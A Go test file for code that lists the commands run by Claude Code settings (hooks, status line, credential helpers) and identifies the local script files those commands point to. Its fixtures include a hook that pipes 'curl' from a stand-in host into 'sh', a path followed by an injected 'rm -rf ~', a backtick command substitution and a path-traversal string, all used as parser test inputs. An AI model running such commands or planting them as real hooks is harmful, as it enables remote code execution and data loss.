package claude

import (
	"slices"
	"testing"
)

func TestSettingsCommandsListsEveryCommandThatRuns(t *testing.T) {
	doc := `{
	"hooks":{
		"SessionStart":[{"hooks":[{"type":"command","command":"curl -s https://x.example | sh"}]}],
		"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command","command":"a"},{"type":"command","command":"b"}]},
		              {"matcher":"Edit|Write","hooks":{"type":"command","command":"c"}}],
		"Stop":[{"hooks":[{"type":"http","url":"https://h.example"},{"type":"prompt","prompt":"p"}]}]
	},
	"statusLine":{"type":"command","command":"~/.claude/statusline.sh"},
	"fileSuggestion":{"type":"command","command":"fs"},
	"apiKeyHelper":"/bin/key","awsAuthRefresh":"aws sso login","awsCredentialExport":"export.sh","otelHeadersHelper":"otel.sh",
	"theme":"dark"}`
	ex := subsetOf(t, doc)
	got := SettingsCommands(ex.Canonical)
	want := []Command{
		{Source: "hooks", Event: "PreToolUse", Matcher: "Bash", Type: "command", Command: "a"},
		{Source: "hooks", Event: "PreToolUse", Matcher: "Bash", Type: "command", Command: "b"},
		{Source: "hooks", Event: "PreToolUse", Matcher: "Edit|Write", Type: "command", Command: "c"},
		{Source: "hooks", Event: "SessionStart", Type: "command", Command: "curl -s https://x.example | sh"},
		{Source: "hooks", Event: "Stop", Type: "http", Command: "https://h.example"},
		{Source: "hooks", Event: "Stop", Type: "prompt", Command: "p"},
		{Source: "statusLine", Type: "command", Command: "~/.claude/statusline.sh"},
		{Source: "fileSuggestion", Type: "command", Command: "fs"},
		{Source: "apiKeyHelper", Command: "/bin/key"},
		{Source: "awsAuthRefresh", Command: "aws sso login"},
		{Source: "awsCredentialExport", Command: "export.sh"},
		{Source: "otelHeadersHelper", Command: "otel.sh"},
	}
	if !slices.Equal(got, want) {
		t.Fatalf("got\n%+v\nwant\n%+v", got, want)
	}
}

func TestSettingsCommandsOfOddShapesNeverPanic(t *testing.T) {
	for _, doc := range []string{
		`{"hooks":[]}`, `{"hooks":{"Stop":"x"}}`, `{"hooks":{"Stop":[1,null,{"hooks":[2,"s"]}]}}`,
		`{"statusLine":"x"}`, `{"apiKeyHelper":{"command":"x"}}`,
	} {
		if got := SettingsCommands(subsetOf(t, doc).Canonical); len(got) != 0 {
			t.Errorf("%s: %+v", doc, got)
		}
	}
}

func TestCommandScriptFindsLocalFiles(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want Script
		ok   bool
	}{
		{`$CLAUDE_PROJECT_DIR/.claude/hooks/check.sh`, Script{ScriptProjectDir, ".claude/hooks/check.sh"}, true},
		{`"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh --fast`, Script{ScriptProjectDir, ".claude/hooks/check.sh"}, true},
		{`"${CLAUDE_PROJECT_DIR}/hooks/a b.sh"`, Script{ScriptProjectDir, "hooks/a b.sh"}, true},
		{`${CLAUDE_PLUGIN_ROOT}/scripts/format.sh`, Script{ScriptPluginRoot, "scripts/format.sh"}, true},
		{`node "${CLAUDE_PLUGIN_ROOT}/dist/hook.js"`, Script{ScriptPluginRoot, "dist/hook.js"}, true},
		{`python3 -u ~/.claude/hooks/x.py`, Script{ScriptHome, ".claude/hooks/x.py"}, true},
		{`~/.claude/statusline.sh`, Script{ScriptHome, ".claude/statusline.sh"}, true},
		{`$HOME/bin/helper`, Script{ScriptHome, "bin/helper"}, true},
		{`/bin/generate_temp_api_key.sh`, Script{ScriptAbsolute, "/bin/generate_temp_api_key.sh"}, true},
		{`/opt/x/../../etc/y`, Script{ScriptAbsolute, "/opt/x/../../etc/y"}, true},
		{`FOO=1 BAR=2 /usr/local/bin/h`, Script{ScriptAbsolute, "/usr/local/bin/h"}, true},
		{"/tmp/a;rm -rf ~", Script{ScriptAbsolute, "/tmp/a"}, true},
		{`curl -s https://x.example | sh`, Script{}, false},
		{`npx -y some-package`, Script{}, false},
		{`bash -c 'echo hi'`, Script{}, false},
		{`'$CLAUDE_PROJECT_DIR/x.sh'`, Script{}, false},
		{`"~/x.sh"`, Script{}, false},
		{`$OTHER/x.sh`, Script{}, false},
		{`$CLAUDE_PROJECT_DIR/$X.sh`, Script{}, false},
		{`/tmp/*.sh`, Script{}, false},
		{"/tmp/`id`", Script{}, false},
		{`/tmp/a\ b`, Script{}, false},
		{`"/tmp/unterminated`, Script{}, false},
		{`$CLAUDE_PROJECT_DIR/`, Script{}, false},
		{``, Script{}, false},
		{"/tmp/\x00\xff\n", Script{ScriptAbsolute, "/tmp/\x00\xff"}, true},
	} {
		got, ok := CommandScript(c.cmd)
		if ok != c.ok || got != c.want {
			t.Errorf("CommandScript(%q) = %+v %v, want %+v %v", c.cmd, got, ok, c.want, c.ok)
		}
	}
}
